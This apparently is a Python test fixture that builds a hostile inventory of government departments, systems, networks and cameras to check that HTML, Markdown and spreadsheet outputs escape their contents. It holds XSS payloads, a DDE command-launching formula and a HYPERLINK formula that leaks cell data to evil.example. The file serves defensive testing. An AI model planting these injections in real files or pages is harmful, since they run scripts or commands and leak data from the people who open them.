"""An inventory whose names attack every output, analysed by the real rules.

Department, system, platform and network names and camera addresses carry HTML/script
payloads that set ``window.__pwned``, a URL, a spreadsheet formula and an ``href`` (the
word that switches pyvis to its innerHTML popup). Rows that the validator rejects or
warns about carry payloads too. The inventory is built so that every rule fires at
least once, so the payloads reach every kind of finding, page and table.
"""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from datetime import date
from pathlib import Path
from typing import Any

import networkx as nx

from interop.analysis import analyze
from interop.findings.model import FindingsDocument
from interop.graph import build_graph
from interop.inventory.model import Inventory
from interop.inventory.raw import RawTable
from interop.inventory.validate import validate
from interop.parameters import Parameters
from interop.schema.tables import TABLE_BY_NAME

IMG = "<img src=x onerror=window.__pwned=1>"
SCRIPT = "</script><script>window.__pwned=1</script>"
SVG = '"><svg onload=window.__pwned=1>'
HREF = '<a href="javascript:window.__pwned=1">链接</a>'
URL = "http://evil.example/x"
FORMULA = '=HYPERLINK("https://evil.example/?q="&A1,"点击")'
AT_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"

PAYLOADS: tuple[str, ...] = (IMG, SCRIPT, SVG, HREF)
"""Markup payloads: each must show as text and never run."""

RAW_MARKERS: tuple[str, ...] = (
    "<img src=x",
    "<script>window",
    "<svg onload",
    '<a href="javascript',
)
"""What must never appear unescaped in an HTML or Markdown output."""

AS_OF = date(2020, 12, 31)


def _tables() -> dict[str, list[dict[str, Any]]]:
    return {
        "departments": [
            {"id": "D1", "name": f"市公安局{IMG}", "level": "municipal"},
            {"id": "D2", "name": f"{SCRIPT}分局", "level": "district", "parent_id": "D1"},
            {"id": "D3", "name": f"城管委{SVG}", "level": "municipal"},
            {"id": "D4", "name": FORMULA, "level": "municipal"},
            {"id": "D5", "name": HREF, "level": "municipal"},
            {"id": "P1", "name": f"省厅{IMG}{URL}", "level": "provincial"},
        ],
        "networks": [
            {"id": "N1", "name": "电子政务外网", "kind": "extranet", "owner_id": "D4"},
            {"id": "N2", "name": f"业务专网{SCRIPT}", "kind": "industry_private", "owner_id": "D4"},
            {"id": "N3", "name": f"视频专网{SVG}", "kind": "video_private", "owner_id": "D1"},
        ],
        "platforms": [
            {
                "id": "PG",
                "name": f"省平台{SVG}",
                "kind": "gov_service",
                "level": "provincial",
                "owner_id": "P1",
                "network_ids": "N1",
            },
            {
                "id": "PX",
                "name": f"交换平台{HREF}",
                "kind": "data_exchange",
                "level": "municipal",
                "owner_id": "D4",
                "network_ids": "N1",
            },
            {
                "id": "PC",
                "name": f"市平台{IMG}",
                "kind": "gov_service",
                "level": "municipal",
                "owner_id": "D4",
                "network_ids": "N1",
            },
        ],
        "systems": [
            {
                "id": "S1",
                "name": f"{IMG}执法系统",
                "owner_id": "D1",
                "network_ids": "N2",
                "function": "执法",
                "security_grade": "3",
            },
            {
                "id": "S2",
                "name": SCRIPT,
                "owner_id": "D2",
                "level": "district",
                "network_ids": "N3",
                "function": "视频",
            },
            {
                "id": "S3",
                "name": f"办公{SVG}",
                "owner_id": "D3",
                "network_ids": "N1",
                "status": "idle",
                "build_cost": "100",
                "annual_om_cost": "10",
                "security_grade": "2",
            },
            {
                "id": "S4",
                "name": "=1+2",
                "owner_id": "D4",
                "network_ids": "N1",
                "modules_total": "10",
                "modules_used": "1",
                "build_cost": "50",
                "annual_om_cost": "5",
                "security_grade": "2",
            },
            {
                "id": "S5",
                "name": HREF,
                "owner_id": "P1",
                "level": "provincial_vertical",
                "user_ids": "D5",
                "gov_service": "true",
                "network_ids": "N1",
                "security_grade": "3",
            },
            {
                "id": "S6",
                "name": f"社保{URL}",
                "owner_id": "P1",
                "level": "provincial_vertical",
                "user_ids": "D1",
                "gov_service": "true",
                "network_ids": "N1",
                "security_grade": "3",
            },
            {
                "id": "S7",
                "name": f"HIS{IMG}",
                "owner_id": "D1",
                "function": "HIS",
                "network_ids": "N1",
                "security_grade": "3",
                "build_cost": "300",
            },
            {
                "id": "S8",
                "name": f"HIS{SVG}",
                "owner_id": "D3",
                "function": "HIS",
                "network_ids": "N1",
                "security_grade": "3",
                "build_cost": "200",
            },
            {
                "id": "S9",
                "name": f"HIS{HREF}",
                "owner_id": "D5",
                "function": "ＨＩＳ",
                "network_ids": "N1",
                "security_grade": "3",
            },
            {
                "id": "S10",
                "name": f"新系统{AT_FORMULA}",
                "owner_id": "D3",
                "network_ids": "N1",
                "go_live": "2019-01-01",
                "replaces_id": "S11",
                "security_grade": "2",
                "modules_total": "4",
                "modules_used": "4",
            },
            {
                "id": "S11",
                "name": f"旧系统{SCRIPT}",
                "owner_id": "D3",
                "network_ids": "N1",
                "go_live": "2018-01-01",
                "status": "retired",
                "modules_total": "10",
                "modules_used": "2",
            },
            {"id": "S12", "name": "坏行", "owner_id": IMG},
            {
                "id": "S13",
                "name": "警告行",
                "owner_id": "D1",
                "network_ids": f"N1;N9{SCRIPT}",
                "security_grade": "3",
            },
        ],
        "flows": [
            {
                "source_id": "PX",
                "target_id": "S4",
                "dataset": f"人口{IMG}",
                "mechanism": "api",
                "frequency": "realtime",
            },
            {
                "source_id": "S5",
                "target_id": "PX",
                "dataset": SVG,
                "mechanism": "file",
                "frequency": "daily",
            },
            {
                "source_id": "PX",
                "target_id": "PG",
                "dataset": "共享",
                "mechanism": "api",
                "frequency": "realtime",
            },
            {
                "source_id": "PG",
                "target_id": "PC",
                "dataset": "办件",
                "mechanism": "db_sync",
                "frequency": "daily",
            },
            {"source_id": "S7", "target_id": "PX", "dataset": "诊疗", "frequency": "realtime"},
            {"source_id": "S8", "target_id": "PX", "dataset": "诊疗", "frequency": "realtime"},
            {"source_id": "S9", "target_id": "PX", "dataset": "诊疗", "frequency": "realtime"},
            {"source_id": "S10", "target_id": "PX", "dataset": "执法", "frequency": "realtime"},
            {"source_id": "S13", "target_id": "PX", "dataset": "x", "frequency": "realtime"},
            {"source_id": "S3", "target_id": "PX", "dataset": "办公", "status": "planned"},
        ],
        "cameras": [
            {
                "id": "C1",
                "owner_id": "D1",
                "lat": "30.58",
                "lon": "114.30",
                "address": IMG,
                "standard": "gb28181",
                "network_id": "N3",
            },
            {
                "id": "C2",
                "owner_id": "D3",
                "lat": "30.58005",
                "lon": "114.30005",
                "address": SCRIPT,
                "standard": "proprietary",
            },
            {
                "id": "C3",
                "owner_id": "D5",
                "lat": "30.58008",
                "lon": "114.29995",
                "address": f"{SVG}{URL}",
                "standard": "onvif",
            },
            {"id": "C4", "owner_id": "D1", "lat": "30.60", "lon": "114.35", "address": HREF},
            {"id": "C5", "owner_id": "D1", "lat": FORMULA, "lon": "114.35"},
        ],
    }


def build_inventory(tables: Mapping[str, Sequence[Mapping[str, Any]]]) -> Inventory:
    """An Inventory from rows, through the validation every loader uses."""
    raws = []
    for name, rows in tables.items():
        headers = list(dict.fromkeys(h for row in rows for h in row))
        if not headers:  # an empty table still has its header (a headerless one is an error)
            headers = [n for n, c in TABLE_BY_NAME[name].columns().items() if c.required]
        numbered = [(i, dict(row)) for i, row in enumerate(rows, start=2)]
        raws.append(RawTable(name=name, source=f"{name}.csv", headers=headers, rows=numbered))
    return validate(raws, "hostile")


def hostile_inventory() -> Inventory:
    return build_inventory(_tables())


def hostile_analysis() -> tuple[FindingsDocument, nx.MultiDiGraph]:
    """The hostile inventory's findings (every rule fires) and its graph."""
    inventory = hostile_inventory()
    document = analyze(inventory, Parameters(as_of=AS_OF))
    return document, build_graph(inventory)


def write_hostile(out_dir: Path, lang: str = "zh") -> tuple[FindingsDocument, list[Path]]:
    from interop.outputs import write_outputs

    document, graph = hostile_analysis()
    return document, write_outputs(document, graph, out_dir, lang)
